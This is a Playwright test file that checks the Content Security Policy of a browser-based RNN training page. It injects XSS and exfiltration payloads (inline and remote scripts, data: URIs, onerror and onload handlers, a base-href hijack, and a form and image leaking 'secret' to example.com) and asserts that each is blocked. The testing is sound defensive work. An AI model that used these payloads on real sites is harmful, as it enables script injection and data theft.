"""What the page may do is little, and enough for all that it does."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, Route, expect

from tests.page.parts import (
    BOOT_MS,
    SENTENCE,
    alert,
    booted,
    box,
    button,
    generate,
    load,
    output,
    put_text,
    save,
    set_panel,
    train_to_step,
    wait_for_phase,
    wait_until,
)
from tests.page.test_access import open_everything

ELSEWHERE = "https://example.com/?text=secret"

# What was reported in this page or worker so far.
REPORTED = """() => new Promise((resolve) => {
  const violations = (reports) => reports.filter((report) => report.type === "csp-violation");
  new ReportingObserver((reports) => resolve(JSON.stringify(violations(reports))), {
    buffered: true,
  }).observe();
  setTimeout(() => resolve("[]"), 1000);
})"""

SOCKET = """(url) => new Promise((resolve) => {
  try {
    const socket = new WebSocket(url);
    socket.onopen = () => resolve("open");
    socket.onerror = () => resolve("closed");
  } catch {
    resolve("closed");
  }
})"""

# The debugger, which runs what stands here, may evaluate: what it starts may not.
EVALUATE = """() => new Promise((resolve) => setTimeout(() => {
  try {
    resolve(new Function("return 'evaluated'")());
  } catch (error) {
    resolve(error.name);
  }
}))"""

SEND = "(url) => fetch(url).then(() => 'sent', (error) => error.name)"


@pytest.fixture(scope="module")
def shared_page(browser: Browser, site: str) -> Iterator[Page]:
    """One page in a browser that may keep it, for that must be allowed, too."""
    with booted(browser, site, service_workers="allow") as page:
        yield page


def test_all_that_the_page_does_is_allowed(desk: Page, tmp_path: Path) -> None:
    """Any violation in the page is an error in its console, which `watched` does not forgive."""
    page = desk
    box(page, "Training text").fill(SENTENCE * 12)
    train_to_step(page, 5)
    open_everything(page)
    expect(page.get_by_role("figure", name="Units over characters")).to_be_visible()
    generate(page, "the ", 20)
    button(page, "Check the tutorial’s RNN").click()
    expect(output(page, "Result of the check")).to_contain_text("right")
    # While panels grow, what is below them moves away from under a click.
    expect(page.get_by_role("progressbar")).to_have_count(0)
    page.get_by_role("textbox", name="Name").fill("kept")
    button(page, "Keep this run").click()
    expect(output(page, "Kept")).to_contain_text("kept")
    button(page, "Make a link").click()
    load(page, save(page, tmp_path))
    button(page, "Replace it").click()
    wait_for_phase(page, "paused")
    for place in (page, page.workers[0]):
        assert json.loads(place.evaluate(REPORTED)) == []


INJECTED = """
<script>window.hacked = "inline"</script>
<script src="https://example.com/hack.js"></script>
<script src="data:text/javascript,window.hacked='data'"></script>
<img src="favicon.svg" alt="" onload="window.hacked = 'handler'">
<img src="https://example.com/?text=secret" alt="">
<style>html { --hacked: yes }</style>
<form id="leak" action="https://example.com/"><input name="text" value="secret"></form>
<base href="https://example.com/">
"""


def test_what_is_injected_neither_runs_nor_sends(
    browser: Browser, site: str, requests: list[str]
) -> None:
    """As somebody could put into the page who has found a hole in it, or in its host."""

    def inject(route: Route) -> None:
        response = route.fetch()
        route.fulfill(
            response=response, body=response.text().replace("<main ", f"{INJECTED}<main ", 1)
        )

    with browser.new_context() as context:
        context.add_init_script(
            "window.blocked = [];"
            "document.addEventListener('securitypolicyviolation',"
            " (event) => blocked.push(`${event.effectiveDirective} ${event.blockedURI}`));"
        )
        page = context.new_page()
        away: list[str] = []
        page.route(
            lambda url: not url.startswith(site), lambda route: away.append(route.request.url)
        )
        page.route(site, inject)
        page.goto(site)
        wait_for_phase(page, "ready", BOOT_MS)
        assert page.evaluate("() => window.hacked") is None
        assert (
            page.evaluate(
                "() => getComputedStyle(document.documentElement).getPropertyValue('--hacked')"
            )
            == ""
        )
        button(page, "Step").click()
        expect(output(page, "Step")).to_have_text("1")
        page.evaluate("() => document.getElementById('leak').submit()")
        wait_until(
            page,
            """() => ["script-src-elem inline", "script-src-attr inline", "style-src-elem inline",
                      "script-src-elem data", "script-src-elem https://example.com",
                      "img-src https://example.com", "base-uri https://example.com",
                      "form-action https://example.com"]
                 .every((expected) => blocked.some((each) => each.startsWith(expected)))""",
        )
        assert not away
        requests.clear()  # of those that were forbidden, the browser tells too


def test_neither_the_page_nor_its_python_can_send_requests_elsewhere(
    browser: Browser, site: str
) -> None:
    """That holds for any program in them, such as one that a library was made to bring along."""
    with browser.new_context() as context:
        page = context.new_page()
        away: list[str] = []
        context.on("request", lambda request: away.append(request.url))
        page.goto(site)
        wait_for_phase(page, "ready", BOOT_MS)
        (worker,) = page.workers
        away.clear()
        for place in (page, worker):
            assert place.evaluate(SEND, ELSEWHERE) == "TypeError"
            assert place.evaluate(SOCKET, ELSEWHERE.replace("https", "wss")) == "closed"
            assert place.evaluate(EVALUATE) == "EvalError"
        assert not [url for url in away if not url.startswith((site, "blob:"))]


MARKUP = "</textarea><img src=x onerror=\"document.title = 'hacked'\"><b>bold</b>"


def test_text_and_names_never_become_markup(desk: Page, tmp_path: Path) -> None:
    title, bold = desk.title(), desk.locator("b").count()
    put_text(desk, f"{MARKUP} " * 12)
    train_to_step(desk, 3)
    assert generate(desk, MARKUP, 10).startswith(MARKUP)
    set_panel(desk, "Kept runs")
    desk.get_by_role("textbox", name="Name").fill(MARKUP)
    button(desk, "Keep this run").click()
    expect(output(desk, "Kept")).to_contain_text(MARKUP)
    file = tmp_path / "<b>name<b>.npz"
    file.write_text("no model")
    load(desk, file)
    button(desk, "Replace it").click()
    expect(alert(desk, "model file")).to_be_visible()
    assert (desk.title(), desk.locator("b").count()) == (title, bold)
